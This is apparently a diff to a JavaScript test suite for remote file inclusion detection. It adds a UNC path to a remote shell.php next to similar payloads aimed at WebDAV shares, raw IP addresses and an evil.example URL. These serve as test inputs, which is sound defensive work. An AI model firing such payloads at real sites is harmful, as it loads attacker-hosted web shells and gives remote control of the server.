@@ -179,6 +179,8 @@ describe('RFI pack', () => {
       // Windows' WebDAV redirector: the share over HTTPS, on a port.
       ['\\\\evil-dav.example.net@SSL\\DavWWWRoot\\shell.php', 'page'],
       ['\\\\evil-dav.example.net@SSL@8443\\DavWWWRoot\\shell.php', 'page'],
+      // A server script on a share, internal or not: what an include loads over SMB.
+      ['\\\\10.10.14.7\\share\\shell.php', 'page'],
       // An address whose first digits read as an octal escape once decoded.
       ['\\\\45.9.148.99\\share\\shell.php', 'template'],
       ['http://evil.example/shell.txt', 'include_path'],
